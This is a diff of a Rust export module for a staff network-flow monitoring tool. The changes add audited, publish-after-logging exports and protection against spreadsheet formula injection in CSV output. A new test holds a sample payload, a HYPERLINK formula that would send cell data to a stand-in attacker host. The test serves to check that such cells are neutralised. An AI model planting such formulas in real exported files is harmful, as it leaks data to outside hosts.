@@ -1,18 +1,18 @@
 //! Investigation exports: the flow records a filter selects, written as CSV, JSON Lines or
-//! IPFIX, with an entry in the hash-chained audit log ([`audit`]) for every export; and
-//! the live IPFIX export of ended flows to a collector ([`ipfix`]).
+//! IPFIX, with an entry in the keyed, journaled audit log ([`audit`]) for every export;
+//! and the live IPFIX export of ended flows to a collector ([`ipfix`]).
 //!
 //! The policies allow history to be looked at only when a senior manager asks over
 //! misconduct concerns: an export needs a case reference and the requester's name, and
-//! both go into the audit log with who ran it and what it wrote.
+//! both go into the audit log with who ran it and what it wrote. The file appears only
+//! once its entry is on disk ([`pending`]).
 
 pub mod audit;
 pub mod ipfix;
+mod pending;
+mod spreadsheet;
 
-use std::{
-    io::Write as _,
-    path::{Path, PathBuf},
-};
+use std::path::{Path, PathBuf};
 
 use anyhow::{Context as _, bail};
 use jiff::Timestamp;
@@ -25,9 +25,10 @@ use crate::store::{Filter, Store, StoredFlow};
 #[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum, Serialize)]
 #[serde(rename_all = "lowercase")]
 pub enum Format {
-    /// One row per flow with a header row (RFC 4180), for spreadsheets.
+    /// One row per flow with a header row (RFC 4180), for spreadsheets: a text cell that a
+    /// spreadsheet would run as a formula starts with `'`.
     Csv,
-    /// One JSON object per line, the same fields as the CSV.
+    /// One JSON object per line, the same fields as the CSV, every value exact.
     Jsonl,
     /// IPFIX messages (RFC 7011) as a file (RFC 5655): two records per flow, client to
     /// server and back; names and classes as enterprise-specific elements.
@@ -129,7 +130,7 @@ impl From<&StoredFlow> for ExportRow {
 pub struct ExportRequest {
     pub case: String,
     pub requested_by: String,
-    pub operator: String,
+    pub operator: audit::Operator,
     pub filter: Filter,
     pub format: Format,
     pub out: PathBuf,
@@ -139,14 +140,17 @@ pub struct ExportRequest {
 #[derive(Clone, Debug)]
 pub struct ExportDone {
     pub rows: u64,
-    pub audit: audit::AuditEntry,
+    /// The export's entry, and the record of a torn line found before it.
+    pub audit: audit::Recorded,
 }
 
-/// Checks the request, writes the file (never over an existing one), and audits it.
+/// Checks the request, writes the file where no one sees it, audits it (the log, then
+/// `witness`), and only then gives it its name (never an existing file's).
 pub fn export(
     request: &ExportRequest,
     store: &str,
-    audit_log: &Path,
+    audit_log: &audit::AuditLog,
+    witness: &audit::Witness,
     now: Timestamp,
 ) -> anyhow::Result<ExportDone> {
     if request.case.trim().is_empty() {
@@ -160,28 +164,22 @@ pub fn export(
     }
     let flows = Store::open(store)?.query(&request.filter)?;
     let bytes = encode(&flows, request.format)?;
-    write_new(&request.out, &bytes)?;
+    let pending = pending::Pending::write(&request.out, &bytes)?;
     let facts = audit::ExportFacts {
         case: request.case.trim().to_owned(),
         requested_by: request.requested_by.trim().to_owned(),
-        operator: request.operator.clone(),
+        operator: request.operator.name.clone(),
+        login_uid: request.operator.login_uid,
         filter: request.filter.clone(),
         format: request.format.name().to_owned(),
         file: absolute(&request.out).display().to_string(),
         rows: flows.len() as u64,
         file_sha256: audit::hex(&Sha256::digest(&bytes)),
     };
-    let audit = match audit::append(audit_log, facts, now) {
-        Ok(entry) => entry,
-        Err(e) => {
-            // An export that cannot be audited is not handed out.
-            let _ = std::fs::remove_file(&request.out);
-            return Err(e.context(format!(
-                "the export was not audited, so {} was removed",
-                request.out.display()
-            )));
-        }
-    };
+    // An export that cannot be audited is never named: dropped, the file is gone.
+    let audit = audit_log
+        .record(facts, now, witness, || pending.publish())
+        .with_context(|| format!("no export was made to {}", request.out.display()))?;
     Ok(ExportDone {
         rows: flows.len() as u64,
         audit,
@@ -195,7 +193,7 @@ pub fn encode(flows: &[StoredFlow], format: Format) -> anyhow::Result<Vec<u8>> {
         Format::Csv => {
             let mut writer = csv::Writer::from_writer(Vec::new());
             for row in rows {
-                writer.serialize(row)?;
+                writer.serialize(spreadsheet::for_spreadsheet(row))?;
             }
             // A header row even when nothing matched.
             if flows.is_empty() {
@@ -227,26 +225,6 @@ fn csv_header() -> String {
         .to_owned()
 }
 
-/// Writes `bytes` to a new file at `path`, readable by its owner only (it is evidence
-/// about a person): an earlier export is never overwritten.
-fn write_new(path: &Path, bytes: &[u8]) -> anyhow::Result<()> {
-    use std::os::unix::fs::OpenOptionsExt as _;
-    let mut file = std::fs::OpenOptions::new()
-        .write(true)
-        .create_new(true)
-        .mode(0o600)
-        .open(path)
-        .with_context(|| {
-            format!(
-                "creating {} (an export never overwrites a file: choose a new name)",
-                path.display()
-            )
-        })?;
-    file.write_all(bytes)
-        .and_then(|()| file.sync_all())
-        .with_context(|| format!("writing {}", path.display()))
-}
-
 fn absolute(path: &Path) -> PathBuf {
     std::path::absolute(path).unwrap_or_else(|_| path.to_owned())
 }
@@ -254,9 +232,12 @@ fn absolute(path: &Path) -> PathBuf {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::store::{
-        EndReason, FlowStore,
-        tests::{TempStore, flow},
+    use crate::{
+        export::audit::tests::TempAudit,
+        store::{
+            EndReason, FlowStore,
+            tests::{TempStore, flow},
+        },
     };
 
     #[test]
@@ -305,42 +286,100 @@ mod tests {
     }
 
     #[test]
+    fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_jsonl_stays_exact() {
+        let temp = TempStore::new("export-formula");
+        let mut store = FlowStore::open(&temp.path).unwrap();
+        let name = r#"=HYPERLINK("http://evil.example/?"&A1,"details")"#;
+        let mut record = flow("192.0.2.10:40000", "2026-11-23T10:00:00Z", "gambling", 7);
+        record.name = Some(name.into());
+        record.group = "@staff".into();
+        store.insert(&[record]).unwrap();
+        let stored = store.query(&Filter::default()).unwrap();
+
+        let csv_bytes = encode(&stored, Format::Csv).unwrap();
+        let mut reader = csv::Reader::from_reader(csv_bytes.as_slice());
+        let headers = reader.headers().unwrap().clone();
+        let row = reader.records().next().unwrap().unwrap();
+        let cell = |column: &str| &row[headers.iter().position(|h| h == column).unwrap()];
+        assert_eq!(cell("name"), format!("'{name}"));
+        assert_eq!(cell("group"), "'@staff");
+        assert_eq!(cell("category"), "gambling");
+        assert!(
+            row.iter()
+                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+            "{row:?}"
+        );
+
+        let jsonl = String::from_utf8(encode(&stored, Format::Jsonl).unwrap()).unwrap();
+        let exact: ExportRow = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+        assert_eq!(
+            (exact.name.as_str(), exact.group.as_str()),
+            (name, "@staff")
+        );
+    }
+
+    #[test]
     fn an_export_needs_a_case_and_a_requester_and_never_overwrites() {
         let temp = TempStore::new("export-refusals");
         FlowStore::open(&temp.path).unwrap();
+        let audit = TempAudit::new("export-refusals");
         let dir = std::env::temp_dir().join(format!("classifier-export-{}", std::process::id()));
         std::fs::create_dir_all(&dir).unwrap();
-        let audit_log = dir.join("audit.jsonl");
         let mut request = ExportRequest {
             case: " ".into(),
             requested_by: "A. Manager".into(),
-            operator: "root".into(),
+            operator: audit::Operator {
+                name: "root".into(),
+                login_uid: Some(0),
+            },
             filter: Filter::default(),
             format: Format::Csv,
             out: dir.join("out.csv"),
         };
         let now = Timestamp::now();
-        let err = export(&request, temp.path.to_str().unwrap(), &audit_log, now).unwrap_err();
+        let store = temp.path.to_str().unwrap();
+        let run = |request: &ExportRequest| export(request, store, &audit.log, &audit.witness, now);
+        let err = run(&request).unwrap_err();
         assert!(format!("{err:#}").contains("case reference"), "{err:#}");
         request.case = "HR-1".into();
         request.requested_by = String::new();
-        let err = export(&request, temp.path.to_str().unwrap(), &audit_log, now).unwrap_err();
+        let err = run(&request).unwrap_err();
         assert!(format!("{err:#}").contains("--requested-by"), "{err:#}");
         assert!(
-            !request.out.exists() && !audit_log.exists(),
+            !request.out.exists() && !audit.log.path().exists(),
             "a refusal writes nothing"
         );
 
         request.requested_by = "A. Manager".into();
-        let done = export(&request, temp.path.to_str().unwrap(), &audit_log, now).unwrap();
-        assert_eq!((done.rows, done.audit.seq), (0, 1));
+        let done = run(&request).unwrap();
+        assert_eq!((done.rows, done.audit.entry.seq), (0, 1));
+        let facts = done.audit.entry.export().unwrap();
+        assert_eq!(
+            (facts.operator.as_str(), facts.login_uid),
+            ("root", Some(0))
+        );
+        assert_eq!(
+            facts.file_sha256,
+            audit::hex(&Sha256::digest(std::fs::read(&request.out).unwrap()))
+        );
         use std::os::unix::fs::PermissionsExt as _;
         let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
         assert_eq!(mode(&request.out), 0o600, "an export is its owner's only");
-        assert_eq!(mode(&audit_log), 0o640);
-        let err = export(&request, temp.path.to_str().unwrap(), &audit_log, now).unwrap_err();
+        assert_eq!(mode(&audit.log.path()), 0o640);
+        let err = run(&request).unwrap_err();
         assert!(format!("{err:#}").contains("never overwrites"), "{err:#}");
-        assert_eq!(audit::verify(&audit_log).unwrap().entries, 1);
+        assert_eq!(audit.log.verify().unwrap().entries, 1);
+
+        // An export that cannot be audited is never seen: here, the log does not verify.
+        std::fs::write(audit.log.path(), "not an entry\n").unwrap();
+        request.out = dir.join("unaudited.csv");
+        let err = run(&request).unwrap_err();
+        assert!(format!("{err:#}").contains("does not verify"), "{err:#}");
+        assert_eq!(
+            std::fs::read_dir(&dir).unwrap().count(),
+            1,
+            "out.csv only: no file, named or not, for the refused export"
+        );
         std::fs::remove_dir_all(&dir).unwrap();
     }
 }
